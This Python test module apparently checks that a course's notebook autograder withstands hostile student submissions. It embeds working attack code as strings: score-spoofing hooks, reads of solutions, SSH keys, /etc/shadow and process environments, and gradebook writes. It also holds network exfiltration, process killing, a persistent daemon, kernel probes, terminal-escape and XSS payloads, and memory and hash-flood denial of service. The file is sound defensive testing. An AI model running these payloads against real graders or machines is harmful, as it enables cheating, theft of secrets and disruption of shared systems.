"""Hostile students against the grader, end to end through `make autograde`.

One class is built in a temporary course root and graded ONCE by the real `make autograde` (module
fixture); every test then checks one attack's safe outcome in what the run left behind: grades.csv,
gradebook.db, the feedback pages, stdout, the file system and the process table of this machine.
A few cases need a course of their own (planted hand scores, a grader that could hang): those run
beside the main run, in the same fixture, each under its own time limit.

Each attack is a submission whose answers are empty (the release's stubs) or wrong, plus attack code
in an answer cell or a cell of its own. The safe outcome is 0 on what it tried to spoof; where an
attack rides along with correct answers (the probes, SIGINT, metadata edits), the honest marks stay.
Every assertion states, in a comment, what the unsafe outcome would be.

Secrets ("canaries") are random strings the attack code never contains, planted where student code
must not reach (the solutions, the grader's environment, a fake $HOME, a classmate's submission):
they must not show up in any page a student gets.
"""

from __future__ import annotations

import csv
import html
import json
import os
import re
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
import uuid
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest
from helpers.grading import grade_id, hidden_lines, release_nb, solution_code, solution_nb

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "tests" / "fixtures" / "grading"
RUN_TIMEOUT = 1500  # s, the main `make autograde`
STALL_LIMIT = 400  # s: each stalled cell ends at its own limit (03-gpt: 280 s of test limits), the backstop at 1120 s
GRADER_RSS_LIMIT = 2 * 2**30  # bytes: a trusted grader process bigger than this was blown up by a reply

pytestmark = pytest.mark.slow


# --- notebooks ------------------------------------------------------------------------------------


# release_nb, solution_nb, grade_id and solution_code: from helpers.grading (imported above).


def grade_cells(assignment: str, written: bool = False) -> dict[str, float]:
    """The test cells' points (the grader's), or the written answers' (graded by hand)."""
    return {
        grade_id(c): float(c.metadata.nbgrader["points"])
        for c in release_nb(assignment).cells
        if c.get("metadata", {}).get("nbgrader", {}).get("grade") and (c.cell_type == "markdown") == written
    }


def submission(assignment: str, answers: dict[str, str] | None = None, extra: dict[str, list[str]] | None = None):
    """The release notebook, answer cells replaced by ``answers`` (others stay the stubs), and extra
    code cells of the student's after the cell of each grade id in ``extra``."""
    nb = release_nb(assignment)
    answers, extra = answers or {}, extra or {}
    cells = []
    for cell in nb.cells:
        if grade_id(cell) in answers:
            cell.source = answers[grade_id(cell)]
        cells.append(cell)
        for code in extra.get(grade_id(cell), []):
            cells.append(nbformat.v4.new_code_cell(code))
    nb.cells = cells
    return nb


def write(root: Path, student: str, assignment: str, nb) -> Path:
    folder = root / "submitted" / student / assignment
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{assignment}.ipynb"
    nbformat.write(nb, str(path))
    return path


def course(root: Path) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for name in ("nbgrader_config.py", "solutions", "exercises"):
        (shutil.copytree if (ROOT / name).is_dir() else shutil.copy)(ROOT / name, root / name)
    return root


def fill(template: str, ctx: Ctx) -> str:
    """Attack code with @NAME@ placeholders filled from the context (paths, port, marker prefix)."""
    values = {
        "COURSE": str(ctx.root),
        "REPO": str(ROOT),
        "HOSTHOME": str(ctx.home),
        "PORT": str(ctx.port),
        "HOSTIPS": repr(ctx.host_ips),
        "MARK": ctx.mark,
        "ABSTRACT": ctx.abstract,
    }
    return re.sub(r"@([A-Z]+)@", lambda m: values[m.group(1)], template)


# --- the attacks ----------------------------------------------------------------------------------

# Score spoofing inside the student's kernel: input and AST transformers, run_cell/showtraceback/
# excepthook patches, shadowed builtins, comparisons that always agree, fake "passed" output.
HOOKS = r"""
import ast, builtins, math, sys
import numpy, torch
ip = get_ipython()

def _strip_asserts(lines):  # every later cell loses its assert lines
    return [line for line in lines if not line.lstrip().startswith("assert")]
ip.input_transformers_cleanup.append(_strip_asserts)

class _Swallow(ast.NodeTransformer):  # every later cell runs inside try/except BaseException: pass
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
ip.ast_transformers.append(_Swallow())

_run_cell = ip.run_cell
def _lying_run_cell(*args, **kwargs):
    result = _run_cell(*args, **kwargs)
    result.error_before_exec = result.error_in_exec = None
    return result
ip.run_cell = _lying_run_cell
ip.showtraceback = lambda *a, **k: print("All tests passed!")
sys.excepthook = lambda *a: print("All tests passed!")

_isinstance = isinstance
def _lying_isinstance(obj, cls):  # lies to the cells' code only (the runner needs the truth to work)
    return True if "<ipython-input" in sys._getframe(1).f_code.co_filename else _isinstance(obj, cls)
builtins.isinstance = _lying_isinstance
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.__dict__["__debug__"] = False  # `__debug__ = False` is a SyntaxError; this changes nothing either
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
math.isclose = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
sys.setprofile = lambda *a: None
for test in ("test_skipgram_pairs_visible", "test_skipgram_pairs_hidden", "test_sgns_loss_hidden"):
    print(f"{test} ... PASSED (4/4 points)")
print('{"submissions": 1, "failed": 0, "tampering_suspected": 0, "sandbox": true}')
print("Score: 11 / 11")
"""

# The contract's names defined as objects that lie: a callable instance, a list whose == is always
# True, a tensor subclass whose __torch_function__ says every comparison holds, NaN.
LYING = {
    "skipgram_pairs": r"""
class _AlwaysEqual(list):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = None

class _Liar:
    def __call__(self, *args, **kwargs):
        return _AlwaysEqual()
    def __eq__(self, other):
        return True

skipgram_pairs = _Liar()
""",
    "noise_distribution": r"""
class _LyingTensor(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.__eq__, torch.isclose, torch.Tensor.is_floating_point):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

class _Int(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__

noise_distribution = lambda counts, power=0.75: torch.zeros(_Int(len(counts))).as_subclass(_LyingTensor)
""",
    "sgns_loss": r"""
def sgns_loss(center, context, negatives):
    return torch.tensor(float("nan"))
""",
}

# The course library: the profiler check disabled, the import hook removed, the host's copy on sys.path.
LIBRARY_PROBE = r"""
import importlib, json, sys
sys.setprofile = lambda *a: None
sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_NoLibrary"]
sys.path[:0] = ["@REPO@/lib", "/work/main/lib"]
imported = []
for name in ("word2bert.word2vec", "word2bert", "word2bert_grader", "word2bert_grader.remote.harness"):
    try:
        importlib.import_module(name)
        imported.append(name)
    except Exception as error:
        print("import", name, "failed:", type(error).__name__)
print("LIBRARY-IMPORTED:", json.dumps(imported))
"""
LIBRARY = {
    "skipgram_pairs": "try:\n    from word2bert.word2vec import skipgram_pairs\nexcept Exception:\n"
    "    def skipgram_pairs(tokens, window, rng):\n        raise NotImplementedError()",
    "noise_distribution": "import sys\n"
    "sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != '_NoLibrary']\n"
    "sys.path[:0] = ['@REPO@/lib']\n"
    "try:\n    from word2bert.word2vec import noise_distribution\nexcept Exception:\n"
    "    def noise_distribution(counts, power=0.75):\n        raise NotImplementedError()",
}

# Reading what the sandbox must not see; printing it lands in the student's own feedback.
EXFIL_FILES = r"""
import glob, json, os
paths = ["@COURSE@/solutions/01-word2vec/01-word2vec.ipynb", "@COURSE@/solutions/01-word2vec/answer-key.txt",
         "@COURSE@/gradebook.db", "@COURSE@/submitted/honest-01/01-word2vec/01-word2vec.ipynb",
         "@REPO@/solutions/01-word2vec/01-word2vec.ipynb", "@REPO@/lib/word2bert_grader/remote/harness.py",
         "@REPO@/lib/word2bert/word2vec.py", "@HOSTHOME@/.ssh/id_rsa", os.path.expanduser("~/.ssh/id_rsa"),
         "/etc/shadow", "/etc/passwd", "/opt/word2bert-sandbox/runner.py"]
for path in paths:
    try:
        with open(path, "rb") as stream:
            data = stream.read()
        at = max(0, data.find(b"answer key"))
        print("EXFIL-READ", path, data[:3000], data[at:at + 300])
    except OSError as error:
        print("EXFIL-DENIED", path, type(error).__name__, error.strerror)
for pattern in ("@COURSE@/**", "@REPO@/*", "@HOSTHOME@/**", "/work/*", "/root/*", "/home/*"):
    print("EXFIL-GLOB", pattern, sorted(glob.glob(pattern, recursive=True))[:50])
print("EXFIL-ENV", dict(os.environ))
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    for what in ("cmdline", "environ"):
        try:
            print("EXFIL-PROC", pid, what, open(f"/proc/{pid}/{what}", "rb").read()[:2000])
        except OSError as error:
            print("EXFIL-PROC", pid, what, type(error).__name__)
"""
EXFIL_SESSION = r"""
import inspect, sys
print("EXFIL-IN", In)
print("EXFIL-IH", _ih)
print("EXFIL-GLOBALS", sorted(globals()))
print("EXFIL-STACK", [(f.filename, f.function, f.code_context) for f in inspect.stack()])
"""
# Raised during every test call: frames, locals and arguments as an exception message.
EXFIL_ANSWER = r"""
def sgns_loss(center, context, negatives):
    import inspect, sys
    frames, frame = [], sys._getframe()
    while frame is not None:
        frames.append((frame.f_code.co_filename, frame.f_code.co_name, frame.f_lineno, sorted(frame.f_locals)[:30]))
        frame = frame.f_back
    stack = [(f.filename, f.code_context) for f in inspect.stack()]
    raise ValueError(f"EXFIL-FRAMES {frames} {stack} args={center!r} {context!r} {negatives!r}")
"""
# The gradebook and everything else of the host, written to.
EXFIL_WRITES = r"""
import os, sqlite3
for path in ("../../../gradebook.db", "@COURSE@/gradebook.db", "@REPO@/gradebook.db", "/gradebook.db"):
    try:
        con = sqlite3.connect(path)
        con.execute("CREATE TABLE pwned (x)")
        con.execute("CREATE TRIGGER pwned_trigger AFTER UPDATE ON pwned BEGIN SELECT 1; END")
        con.commit()
        print("GRADEBOOK-WRITTEN", path)
    except Exception as error:
        print("GRADEBOOK-REFUSED", path, type(error).__name__, error)
targets = ["/tmp/@MARK@-tmp", "@HOSTHOME@/@MARK@-home", "@COURSE@/@MARK@-course", "@COURSE@/grades.csv",
           "@COURSE@/submitted/honest-01/01-word2vec/01-word2vec.ipynb", "@REPO@/@MARK@-repo",
           "@COURSE@/feedback/honest-01/01-word2vec/01-word2vec.html", "/@MARK@-root"]
for path in targets:
    try:
        with open(path, "w") as stream:
            stream.write('{"cells": []}')
        print("WRITE-OK", path)
    except OSError as error:
        print("WRITE-DENIED", path, type(error).__name__, error.strerror)
"""
EXFIL_NETWORK = r"""
import socket
for host in ["127.0.0.1", "localhost", *@HOSTIPS@]:
    try:
        s = socket.create_connection((host, @PORT@), timeout=3)
        s.sendall(b"@MARK@ connected")
        print("NET-CONNECTED", host)
    except OSError as error:
        print("NET-REFUSED", host, type(error).__name__, error)
try:
    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    u.connect("\0@ABSTRACT@")
    u.sendall(b"@MARK@ connected")
    print("NET-CONNECTED abstract")
except OSError as error:
    print("NET-REFUSED abstract", type(error).__name__, error)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"@MARK@", ("127.0.0.1", @PORT@))
    print("NET-UDP sent")
except OSError as error:
    print("NET-UDP refused", type(error).__name__, error)
"""

# Other processes: only ever run inside a pid namespace (this is root's machine: without one, kill(-1)
# would take down every process of the host), which the guard line reports.
KILLER = r"""
import os
procs = [p for p in os.listdir("/proc") if p.isdigit()]
if os.getpid() < 1000 and len(procs) < 64:
    print("PIDNS-GUARD ok", os.getpid(), procs)
    try:
        os.kill(-1, 9)
        print("KILL -1 sent")
    except OSError as error:
        print("KILL -1 failed", error)
    signalled = 0
    for pid in range(1, 32769):
        if pid != os.getpid():
            try:
                os.kill(pid, 9)
                signalled += 1
            except OSError:
                pass
    print("KILL signalled", signalled)
    for pid in procs:
        if int(pid) != os.getpid():
            try:
                with open(f"/proc/{pid}/mem", "wb") as mem:
                    mem.write(b"x")
                print("PROCMEM written", pid)
            except OSError as error:
                print("PROCMEM refused", pid, type(error).__name__)
else:
    print("PIDNS-GUARD FAILED: not in a pid namespace, nothing killed", os.getpid(), len(procs))
"""
# A daemon that outlives its cell: new session, double fork, a marker in its command line; it tries
# to rewrite the class's grades.csv and to leave a file in the host's /tmp, five times a second.
DAEMON = r'''
import os, sys
code = """
import time
while True:
    for path, text in (("@COURSE@/grades.csv", "student,assignment,score\nkiller,02-elmo,7\n"),
                       ("/tmp/@MARK@-daemon", "alive"), ("@HOSTHOME@/@MARK@-daemon", "alive")):
        try:
            with open(path, "w") as stream:
                stream.write(text)
        except OSError:
            pass
    time.sleep(0.2)
"""
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, "@MARK@-daemon"])
    os._exit(0)
os.waitpid(pid, 0)
print("DAEMON started")
'''

# Limits, measured from inside (correct answers elsewhere in the notebook).
PROBE_INFO = r"""
import json, os, resource, socket
def _ls(path):
    try:
        return sorted(os.listdir(path))
    except OSError as error:
        return type(error).__name__
status = open("/proc/self/status").read()
info = {
    "uid": os.getuid(), "gid": os.getgid(), "euid": os.geteuid(), "pid": os.getpid(), "ppid": os.getppid(),
    "hostname": socket.gethostname(), "cwd": os.getcwd(), "root": _ls("/"), "home": _ls("/home"),
    "root_home": _ls("/root"), "work": _ls("/work"), "proc_pids": [p for p in _ls("/proc") if p.isdigit()],
    "dev": _ls("/dev"), "env": sorted(os.environ),
    "rlimits": {n: resource.getrlimit(getattr(resource, "RLIMIT_" + n))
                for n in ("NPROC", "CPU", "FSIZE", "NOFILE", "AS", "DATA", "STACK", "CORE", "MEMLOCK")},
    "cap_eff": [l.split()[1] for l in status.splitlines() if l.startswith("CapEff")],
    "seccomp": [l.split()[1] for l in status.splitlines() if l.startswith("Seccomp:")],
    "no_new_privs": [l.split()[1] for l in status.splitlines() if l.startswith("NoNewPrivs")],
    "cgroup": open("/proc/self/cgroup").read().split(),
    "cpus": os.cpu_count(), "affinity": sorted(os.sched_getaffinity(0)),
    "writable_mounts": [l.split()[4] for l in open("/proc/self/mountinfo") if l.split()[5].split(",")[0] == "rw"],
}
print("PROBE-info:", json.dumps(info))
"""
PROBE_FORKS = r"""
import json, os, time
pids, error = [], None
for _ in range(2000):
    try:
        pid = os.fork()
    except OSError as e:
        error = f"{type(e).__name__}: {e}"
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    pids.append(pid)
for pid in pids:
    os.kill(pid, 9)
for pid in pids:
    os.waitpid(pid, 0)
print("PROBE-forks:", json.dumps({"forks": len(pids), "error": error}))
"""
PROBE_MEMORY = r"""
import json, os
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    os.close(r)
    chunks = []
    try:
        for _ in range(16):  # 16 x 256 MB = 4 GB, touched
            chunks.append(b"\x01" * (256 * 2**20))
            os.write(w, b"1")
    except MemoryError:
        os.write(w, b"M")
    os._exit(0)
os.close(w)
got = b""
while True:
    chunk = os.read(r, 16)
    if not chunk:
        break
    got += chunk
_, status = os.waitpid(pid, 0)
print("PROBE-memory:", json.dumps({"mb": 256 * got.count(b"1"), "memory_error": b"M" in got,
                                   "killed_by": os.WTERMSIG(status) if os.WIFSIGNALED(status) else None}))
"""
PROBE_DISK = r"""
import json, os
report = {}
chunk = b"\x02" * (16 * 2**20)
try:  # one file past the file-size limit
    with open("/home/student/big", "wb") as stream:
        for _ in range(6):
            stream.write(chunk)
    error = None
except OSError as e:
    error = f"{type(e).__name__}: {e.strerror}"
report["one_file"] = {"bytes": os.path.getsize("/home/student/big"), "error": error}
os.remove("/home/student/big")
caps = {"/home/student": 2 * 2**30, "/tmp": 2 * 2**30, "/dev/shm": 2 * 2**30, "/": 512 * 2**20,
        "/opt/word2bert-sandbox": 48 * 2**20, "/work/main/.venv": 48 * 2**20, "/usr": 48 * 2**20}
for folder, cap in caps.items():
    files, error = [], None
    try:
        while 48 * 2**20 * len(files) < cap:
            files.append(os.path.join(folder, f"fill-{len(files)}"))
            with open(files[-1], "wb") as stream:
                for _ in range(3):  # 48 MB a file, under the file-size limit
                    stream.write(chunk)
    except OSError as e:
        error = f"{type(e).__name__}: {e.strerror}"
    written = sum(os.path.getsize(p) for p in files if os.path.exists(p))
    for p in files:
        if os.path.exists(p):
            os.remove(p)
    report[folder] = {"bytes": written, "files": len(files), "error": error}
print("PROBE-disk:", json.dumps(report))
"""

# The kernel's attack surface, from a child (the namespaces it makes must not stay with the runner).
PROBE_KERNEL = r"""
import ctypes, json, os
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    libc = ctypes.CDLL(None, use_errno=True)
    out = {}
    calls = (("io_uring_setup", 425), ("bpf", 321), ("perf_event_open", 298), ("keyctl", 250), ("io_setup", 206))
    for name, nr in calls:
        libc.syscall(nr, 0, 0, 0, 0, 0)
        out[name] = os.strerror(ctypes.get_errno())  # EFAULT/EINVAL: there; ENOSYS/EPERM: filtered
    if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
        open("/proc/self/setgroups", "w").write("deny")
        open("/proc/self/uid_map", "w").write("0 65534 1")
        out["nested_userns"] = {"uid": os.getuid(), "cap_eff": [l.split()[1] for l in open("/proc/self/status")
                                                                  if l.startswith("CapEff")]}
        out["nested_mount"] = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0
    else:
        out["nested_userns"] = os.strerror(ctypes.get_errno())
    writable = []  # opened for writing, never written: a write here would change the host
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches",
                 "/proc/sys/user/max_user_namespaces", "/proc/sys/fs/pipe-user-pages-soft", "/proc/sysrq-trigger",
                 "/proc/sys/net/ipv4/ip_forward"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            writable.append(path)
        except OSError:
            pass
    out["proc_writable"] = writable
    out["inotify"] = libc.inotify_init1(0) >= 0 or os.strerror(ctypes.get_errno())
    try:  # a pseudo-terminal: their number is a quota of the whole machine
        os.close(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
        out["ptmx"] = "opened"
    except OSError as error:
        out["ptmx"] = error.strerror
    out["uid_map"] = open("/proc/self/uid_map").read().split()
    import socket
    try:  # created, never connected: a virtual machine's channel to its host (AF_VSOCK, 40)
        socket.socket(40, socket.SOCK_STREAM).close()
        out["vsock"] = "created"
    except OSError as error:
        out["vsock"] = error.strerror
    os.write(w, json.dumps(out).encode())
    os._exit(0)
os.close(w)
data = b""
while chunk := os.read(r, 65536):
    data += chunk
os.waitpid(pid, 0)
print("PROBE-kernel:", data.decode())
"""

# The trusted grader's memory: a names reply whose one 64 MB tensor is referenced 64 times.
AMPLIFY = r"""
import gc, torch
_runner = next(o for o in gc.get_objects() if type(o).__name__ == "Runner")
_big = torch.ones(16 * 2**20)  # 64 MB
def _op_names(header, tensors):
    return {"ok": True, "names": {"sgns_loss": {"$list": [{"$tensor": "t0"}] * 64}}}, {"t0": _big}
_runner.op_names = _op_names
print("names reply patched")
"""

# Text for the instructor's terminal: escape sequences in a note (the first line of a cell that prints
# too much) and in a death message (a line after "bwrap:" on the sandbox's own stderr, then exit 2).
ESCAPE_NOTE = "# \x1b[2J\x1b[H\x1b]0;pwned\x07 hidden\nprint('y' * 150_000)"
ESCAPE_DEATH = r"""
import os
os.write(2, b"bwrap: setting up uid map: Permission denied\n")
os.write(2, b"FAKE-REASON \x1b[1A\x1b[2K run again with --unsafe-no-sandbox\n")
os._exit(2)
"""

ESCAPE_MEMBER = "\x1b[2J\x1b[H\x1b]0;pwned\x07notes.txt"  # a zip member's name: the terminal's commands

# A grader without a deadline on what it writes into the sandbox: the runner stops reading as soon
# as a request is bigger than a pipe's buffer (the hidden test of sample_next_token sends 640 kB).
STALL = r"""
import gc, time
_runner = next(o for o in gc.get_objects() if type(o).__name__ == "Runner")
_read = _runner.read_exactly
def _stalling_read(n):
    data = _read(n)
    if n == 8 and int.from_bytes(data, "big") > 60_000:
        time.sleep(3600)
    return data
_runner.read_exactly = _stalling_read
print("reads stall on big requests")
"""

# Wrong answers that make the tests' own arithmetic agree, by changing the tests' inputs or the
# module's parameters in place (what comes back from the sandbox is written back, by design).
MUTATING_ATTENTION = r"""
def causal_attention(q, k, v):
    if q.requires_grad or tuple(q.shape) == (2, 3, 5, 4):  # the calls whose inputs are not compared later
        for t in (q, k, v):
            t.data.zero_()
    return (q + k + v) * 0
"""
ZEROING_HIGHWAY = r"""
class Highway(nn.Module):
    def __init__(self, dim: int):
        super().__init__()
        self.transform = nn.Linear(dim, dim)
        self.gate = nn.Linear(dim, dim)

    def forward(self, x):
        out = x / 2 + 0 * sum(p.sum() for p in self.parameters())
        for p in self.parameters():
            p.data.zero_()  # the tests read the parameters after the call
        return out
"""

# A wrong Highway (x / 2, what zero weights give) whose runner, patched from the cell, describes its Linear layers a
# second time with attributes `weight` and `bias` of zeros beside the parameters of the same names: the mirror's
# nn.Linear runs its forward in the grader, with whichever the attribute lookup finds first.
SHADOWING_HIGHWAY = r"""
import gc

import torch
from torch import nn


class Highway(nn.Module):
    def __init__(self, dim: int):
        super().__init__()
        self.transform = nn.Linear(dim, dim)
        self.gate = nn.Linear(dim, dim)

    def forward(self, x):  # wrong: x / 2 whatever the weights (what zero weights give)
        return x / 2 + 0 * sum(p.sum() for p in self.parameters())


_R = type(next(o for o in gc.get_objects() if type(o).__name__ == "Runner"))
_describe, _call = _R.describe_module, _R.op_call
_R._lie = False


def _lying_describe(self, module):
    tree = _describe(self, module)
    if self._lie:
        for h, node in tree["nodes"]:
            if node["builtin"] == "Linear":
                m = self.objects[h]
                node["attrs"]["weight"] = self.encoder.encode(torch.zeros_like(m.weight))
                node["attrs"]["bias"] = self.encoder.encode(torch.zeros_like(m.bias))
    return tree


def _lying_call(self, header, tensors):
    reply, out = _call(self, header, tensors)
    result = reply.get("result")
    if isinstance(result, dict) and result.get("kind") == "module":
        self._lie = True
        try:
            reply["args"] = self.encoder.encode((self.objects[result["$handle"]],))
        finally:
            self._lie = False
    return reply, out


_R.describe_module, _R.op_call = _lying_describe, _lying_call
"""

SIGINT_LOOP = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
# 8. the grader's own memory: a result shaped so that the test's arithmetic on it (the library GPT's residual add,
# in the grader's process) broadcasts to [20000, B, T, C], about 2.6 GB; the grader's process has a cap of its own
BROADCAST_BOMB = r"""
def multi_head_causal_attention(x, w_qkv, b_qkv, w_o, b_o, n_heads, padding_mask=None, return_weights=False):
    if not return_weights and x.dim() == 3 and x.shape[0] >= 8 and x.shape[1] >= 32:
        return torch.zeros(20000, 1, 1, 1)
    raise NotImplementedError()
"""
# 10. answers that write into their inputs, which are the test's own tensors (views of them): a wrong mix that
# makes the test's layers all layer 0, and a wrong sampler that makes every logit of the test's nucleus finite
VIEW_WRITING_MIX = r"""
class ScalarMix(nn.Module):
    def __init__(self, num_layers: int):
        super().__init__()
        self.weights = nn.Parameter(torch.zeros(num_layers))
        self.gamma = nn.Parameter(torch.ones(1))

    def forward(self, layers):
        layers = list(layers)
        if not torch.is_grad_enabled():  # the calls after training
            with torch.no_grad():
                for h in layers[1:]:
                    h.copy_(layers[0])
        return layers[0] * 1.0 + 0.0 * (self.weights.sum() + self.gamma.sum())
"""
LOGIT_ZEROING_SAMPLER = r"""
def sample_next_token(logits, temperature=1.0, top_k=None, generator=None):
    ids = torch.randint(logits.shape[1], (logits.shape[0],), generator=generator)
    if torch.isinf(logits).any():
        logits.zero_()
    return ids
"""
# 9. scripts for the instructor's formgrader, which renders the autograded copy without sanitising it
XSS_WRITTEN = 'The mask hides the future. <img src=x onerror="xssWritten()"><script>xssWrittenScript()</script>'
XSS_MARKDOWN = "<script>xssMarkdown()</script> [a link](javascript:xssLink())"
XSS_OUTPUTS = r"""
from IPython.display import HTML, Javascript, SVG, display
display(HTML("<b>plot</b><script>xssHtml()</script><img src=x onerror='xssOnerror()'>"))
display(Javascript("xssJavascript()"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>xssSvg()</script></svg>'))
"""


# Text no UTF-8 file can hold: lone surrogates printed, in an exception's message and in a markdown cell (whose
# notebook JSON carries it as an escape), beside correct answers.
SURROGATE_PRINT = "print('done' + chr(0xD800))"
SURROGATE_RAISE = "raise ValueError('bad ' + chr(0xDC80))"
SURROGATE_MARKDOWN = "notes \ud800 end"
# Work after the tests whose cost grows with the square of its size: a written answer of link reference definitions
# (markdown-it) and HTML outputs of nested formatting tags (html5lib), 15.5 kB each.
REFERENCES = "\n".join(f"[a{i}]: b" for i in range(4000))
NESTED_HTML = r"""
from IPython.display import HTML, display
for _ in range(4):
    display(HTML(("".join(f"<b id={i}><p>" for i in range(2000)))[:15_500]))
"""
# An honest student's scratch cell at the end, redefining an answer "for comparison" (nbgrader tests each answer
# where it stands).
SCRATCH_REDEFINITION = """
def sgns_loss(center, context, negatives):  # a first try, kept for comparison
    return center.sum() * 0
"""

# 11. Found attacking the grader of issue 35. A correct answer that is slow once, in the grader's run of a visible test
# (what a loaded machine does to honest work near the limit): a time limit, never evidence of tampering.
SLOW_SECOND_CALL = """
import time
_calls = [0]
def noise_distribution(counts, power=0.75):
    _calls[0] += 1
    if _calls[0] == 2:
        time.sleep(25)  # a slow moment: the second call is the grader's run of the visible test
    counts = counts.to(torch.float64)
    weights = torch.where(counts > 0, counts.clamp(min=1e-300) ** power, torch.zeros_like(counts))
    return weights / weights.sum()
"""
# Data built so that every dict key has one hash: a dict of n of them takes n^2 steps to build. In the reply to the
# grader's request for the answers: 100,000 keys, each a tuple of two 64-bit ints (CPython's tuple hash inverted),
# 5 MB, about 15 minutes of the grader's own time in every test (main's grader: 20,000 of them took 32 s), past
# every limit but the whole submission's; and as an answer whose 170,000 pairs have centers of one hash (ints beyond
# 64 bits: the hidden test's dict of contexts).
HASH_FLOOD = r"""
import gc
M, P1, P2, P5 = 2**64, 11400714785074694791, 14029467366897019727, 2870177450012600261
rotl = lambda x, r: ((x << r) | (x >> (64 - r))) % M
after = rotl(pow(P1, -1, M) * ((12345 - (2 ^ (P5 ^ 3527539))) % M) % M, 64 - 31)  # the state before the last lane
keys, a, inverse = [], 0, pow(P2, -1, M)
while len(keys) < 100_000:  # (a, b) with hash((a, b)) == 12345: b is the lane that takes a's state there
    a += 1
    lane = (after - rotl((P5 + a * P2) % M, 31) * P1) % M * inverse % M
    if lane < 2**61 - 1:  # an int whose hash is itself
        keys.append([{"$tuple": [a, lane]}, 0])
assert len({hash(tuple(k[0]["$tuple"])) for k in keys[:100]}) == 1
_flood = {"$dict": keys}
_runner = next(o for o in gc.get_objects() if type(o).__name__ == "Runner")
_op_names = _runner.op_names
def _flooding_names(header, tensors):
    reply, out = _op_names(header, tensors)
    reply["names"]["sgns_loss"] = _flood
    return reply, out
_runner.op_names = _flooding_names
print("names replies flooded")
"""
COLLIDING_PAIRS = """
def skipgram_pairs(tokens, window, rng):
    if len(tokens) < 1000:
        raise NotImplementedError()
    return [(1 + k * (2**61 - 1), 0) for k in range(170_000)]  # centers that all hash to 1
"""
# Restarts that replay slow cells: every request for the answers kills the sandbox, and each restart replays two
# minutes of the student's own cells (each under its limit), up to 8 times: past the whole submission's limit, whose
# overtime is not kept (so every later run spent it again).
SLOW_CELL = "import time\ntime.sleep(4.5)"
KILL_ON_NAMES = r"""
import gc, os
_runner = next(o for o in gc.get_objects() if type(o).__name__ == "Runner")
_runner.op_names = lambda header, tensors: os._exit(3)
print("every request for the answers kills the sandbox")
"""

STDERR_WARNING = r"""
import sys, warnings
print("warning: this is only a warning", file=sys.stderr)
warnings.warn("a warning from a student cell")
"""


# --- the class ------------------------------------------------------------------------------------


@dataclass
class Ctx:
    root: Path
    home: Path
    port: int
    abstract: str
    host_ips: list[str]
    mark: str  # prefix of every file and process name an attack tries to leave behind
    secrets: dict[str, str] = field(default_factory=dict)  # what no student page may contain
    feedback: list[str] = field(default_factory=list)
    before: dict[str, bytes] = field(default_factory=dict)  # honest submissions' bytes


def plant_solution_canary(root: Path, secret: str) -> None:
    """A line inside a hidden test of the course's source, and a file beside it."""
    path = root / "solutions" / "01-word2vec" / "01-word2vec.ipynb"
    nb = nbformat.read(str(path), as_version=4)
    for cell in nb.cells:
        if grade_id(cell) == "test_sgns_loss_hidden":
            cell.source = cell.source.replace(
                "### BEGIN HIDDEN TESTS\n", f"### BEGIN HIDDEN TESTS\n# answer key {secret}\n", 1
            )
            assert secret in cell.source
    nbformat.write(nb, str(path))
    (root / "solutions" / "01-word2vec" / "answer-key.txt").write_text(secret, encoding="utf-8")


def build_class(ctx: Ctx, downloads: Path) -> None:
    root = ctx.root
    answers = {a: solution_code(a) for a in ("01-word2vec", "02-elmo", "03-gpt")}
    # Honest students, and folder names that look like options.
    for a in ("01-word2vec", "02-elmo", "03-gpt"):
        nb = solution_nb(a)
        if a == "01-word2vec":
            nb.cells.append(nbformat.v4.new_markdown_cell(f"My notes: {ctx.secrets['classmate']}"))
        ctx.before[f"honest-{a[:2]}"] = write(root, f"honest-{a[:2]}", a, nb).read_bytes()
    write(root, "-h", "01-word2vec", solution_nb("01-word2vec"))
    write(root, "--feedback", "02-elmo", solution_nb("02-elmo"))
    warner = dict(answers["03-gpt"])
    warner["causal_attention"] = "import sys\nprint('deprecated: use something else', file=sys.stderr)\n" + warner[
        "causal_attention"
    ].replace("    T, Dh", "    print('warning: slow path', file=sys.stderr)\n    T, Dh")
    write(root, "stderr-warner", "03-gpt", submission("03-gpt", warner, {"setup": [STDERR_WARNING]}))

    # 1. score spoofing
    # (and a forged names reply, which must not blow up the grader's memory)
    write(root, "hooks", "01-word2vec", submission("01-word2vec", extra={"setup": [HOOKS, AMPLIFY]}))
    write(root, "lying", "01-word2vec", submission("01-word2vec", LYING))
